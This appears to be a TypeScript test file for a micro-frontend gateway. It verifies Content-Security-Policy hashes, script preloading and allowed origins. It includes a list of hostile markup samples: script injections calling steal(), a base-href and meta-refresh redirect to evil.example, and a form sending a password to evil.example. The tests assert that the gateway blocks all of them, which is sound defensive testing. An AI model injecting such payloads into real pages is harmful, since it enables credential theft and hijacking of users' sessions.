import { createHash } from 'node:crypto';
import { buildPackage, integrityOf } from '@mortar/registry/test/built-package';
import { eventually } from '@mortar/registry/test/eventually';
import { getPage, openPreview, setUpGateway } from '#test/gateway-fixture.ts';
import { ORIGIN } from '@mortar/registry/test/registry-fixture';
import { hostServer, remoteServer } from '#test/server-builds.ts';

const fixture = setUpGateway();

const MAIN = '/* shell 1.0.0 */';
const EARLY = '/* early */';
const INLINE = 'window.begun = 1';
const HOST_HTML = `<html><head><!--mortar:head--><script>${INLINE}</script>
<script defer="defer" src="early-tap.js" integrity="${integrityOf(EARLY)}" crossorigin="anonymous"></script>
<script defer="defer" src="main.js" integrity="${integrityOf(MAIN)}" crossorigin="anonymous"></script>
</head><body><div id="root"><!--mortar:root--></div><!--mortar:boot--></body></html>`;

const releaseHost = () =>
  fixture.release({ name: 'shell', files: { 'index.html': HOST_HTML, 'early-tap.js': EARLY }, server: hostServer() });

const hashOf = (script: string) => `'sha256-${createHash('sha256').update(script).digest('base64')}'`;

/** Sources of `script-src` that both policies of a document have. */
function policiesOf({
  body,
  headers,
}: Awaited<ReturnType<typeof getPage>>): [inDocument: string[], inHeader: string[]] {
  const texts = [
    /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(body)?.[1],
    headers['content-security-policy'],
  ];
  const [inDocument = [], inHeader = []] = texts.map((text) =>
    /script-src ([^;]*)/.exec(String(text))?.[1]?.split(' '),
  );
  return [inDocument, inHeader];
}

const executable = (html: string) => [...html.matchAll(/<script(?![^>]*\stype="application\/)[^>]*>(.*?)<\/script>/gs)];

it('document runs scripts by their hashes alone: those of its host, and what it preloads', async () => {
  await releaseHost();
  await fixture.release({
    routes: [{ path: '/', guard: 'none' }],
    server: remoteServer({ '/': { markup: '<h1>Home</h1>' } }),
  });
  const page = await eventually(
    async () => getPage(await fixture.gateway(), '/'),
    ({ body }) => body.includes('<h1>Home</h1>'),
  );
  const scripts = executable(page.body);
  expect(scripts.map(([tag]) => tag.includes(' src='))).toEqual([false, false]);
  const [inline, loader] = scripts.map(([, script = '']) => script);
  expect([inline, loader]).toEqual([INLINE, expect.stringContaining('early-tap.js')]);
  const hashes = scripts.map(([, script = '']) => hashOf(script));
  const remote = ['/* mfe-articles 1.0.0 */', '/* routes of mfe-articles 1.0.0 */'];
  const files = [EARLY, MAIN, ...remote].map((content) => `'${integrityOf(content)}'`);
  const [inDocument, inHeader] = policiesOf(page);
  expect(inDocument.toSorted()).toEqual(["'strict-dynamic'", "'self'", ...hashes, ...files].toSorted());
  expect(inHeader).toEqual(["'self'", ...hashes]);
  // Before anything that it is about.
  expect(page.body.indexOf('http-equiv')).toBeLessThan(page.body.indexOf('rel="preload"'));
});

it('document loads the scripts of its host in their order, and preloads them', async () => {
  await releaseHost();
  const { body } = await getPage(await fixture.gateway({ renderers: 0 }), '/login');
  const list = `[["/assets/shell/1.0.0/early-tap.js","${integrityOf(EARLY)}"],["/assets/shell/1.0.0/main.js","${integrityOf(MAIN)}"]]`;
  expect(body).toContain(list);
  expect(body.indexOf(list)).toBeGreaterThan(body.indexOf('id="boot"'));
  for (const file of ['early-tap.js', 'main.js']) {
    expect(body.match(new RegExp(`<link rel="preload" as="script"[^>]*/shell/1.0.0/${file}">`, 'g'))).toHaveLength(1);
  }
});

const HOSTILE = [
  '<script src="/assets/mfe-articles/1.1.0/evil.js"></script>',
  '<SCRIPT>steal()</SCRIPT>',
  '<svg><script href="/evil.js"/></svg>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="/assets/mfe-articles/1.1.0/evil.css">',
  '<iframe srcdoc="&lt;script&gt;steal()&lt;/script&gt;"></iframe>',
  '<object data="/evil.svg"></object>',
  '<div id="boot">{"remotes":[]}</div>',
  "<p id = 'state'>{}</p>",
  '<form method="post" action="https://evil.example/"><input name="password"></form>',
  '<form><button formaction="//evil.example/">Go</button></form>',
];

describe('markup of a server build that no page may contain', () => {
  const routes = HOSTILE.map((_, index) => ({ path: `/hostile-${index}`, guard: 'none' as const }));
  const pages = Object.fromEntries(
    HOSTILE.map((markup, index) => [`/hostile-${index}`, { markup: `<h1>Hostile</h1>${markup}` }]),
  );
  const build = {
    routes: [{ path: '/', guard: 'none' as const }, { path: '/plain/:id', guard: 'none' as const }, ...routes],
    server: remoteServer({ '*': { markup: '<h1>Home</h1>' }, ...pages }),
  };

  async function failures() {
    const rows = await fixture.telemetry.sum({ name: 'mfe-articles', since: new Date(0) });
    return rows.filter(({ measure }) => measure === 'render-failure').reduce((sum, { count }) => sum + count, 0);
  }

  it('is not sent, and its version has failed to render', async () => {
    await releaseHost();
    await fixture.release(build);
    const app = await fixture.gateway({ analysisMs: 20 });
    await eventually(
      () => getPage(app, '/'),
      ({ body }) => body.includes('<h1>Home</h1>'),
    );
    for (const [index, markup] of HOSTILE.entries()) {
      const before = await failures();
      const { body } = await app.inject({
        url: `/hostile-${index}`,
        remoteAddress: `10.0.0.${index}`,
        headers: { accept: 'text/html' },
      });
      expect([markup, body.includes('Hostile')]).toEqual([markup, false]);
      await eventually(failures, (count) => count > before);
      // A build that renders nothing would not be run.
      await eventually(
        () => getPage(app, `/plain/${index}`),
        (page) => page.body.includes('<h1>Home</h1>'),
      );
    }
  });

  it('is not sent in a preview', async () => {
    await releaseHost();
    await fixture.release({ routes: build.routes, server: remoteServer({ '*': { markup: '<h1>Home</h1>' } }) });
    await fixture.publisher.publish(await buildPackage({ ...build, version: '1.1.0' }), ORIGIN);
    const app = await fixture.gateway();
    const preview = { ...ORIGIN, name: 'mfe-articles', version: '1.1.0', minutes: 5, browsers: 1 };
    const { pass } = await fixture.previews.create(preview);
    const cookie = await openPreview(app, pass);
    await eventually(
      () => getPage(app, '/', { cookie }),
      ({ body }) => body.includes('<h1>Home</h1>') && body.includes('"preview"'),
    );
    const { body } = await getPage(app, '/hostile-0', { cookie });
    expect([body.includes('"preview"'), body.includes('Hostile')]).toEqual([true, false]);
  });
});

it('policy names the other origins that a live remote asks for and the site allows, and no more', async () => {
  const site = {
    name: 'Tides',
    description: '',
    locale: 'en_GB',
    reservedPaths: [],
    crawled: [],
    origins: { 'img-src': ['https://tiles.example', 'https://unused.example'], 'frame-src': ['https://maps.example'] },
  };
  await fixture.release({ name: 'shell', server: hostServer(), record: { site } });
  const origins = { 'img-src': ['https://tiles.example'], 'frame-src': ['https://maps.example'] };
  const manifest = { name: 'mfe-articles', owner: 'a team', routes: [], slots: [], origins };
  await fixture.release({ name: 'mfe-articles', record: { manifest } });
  const { headers, body } = await getPage(await fixture.gateway(), '/');
  const policy = String(headers['content-security-policy']).split(';');
  expect(policy).toContain("img-src 'self' data: blob: https://tiles.example");
  expect(policy).toContain("frame-src 'self' https://maps.example");
  expect(policy).toContain("connect-src 'self'");
  expect(body).not.toContain('tiles.example');
});
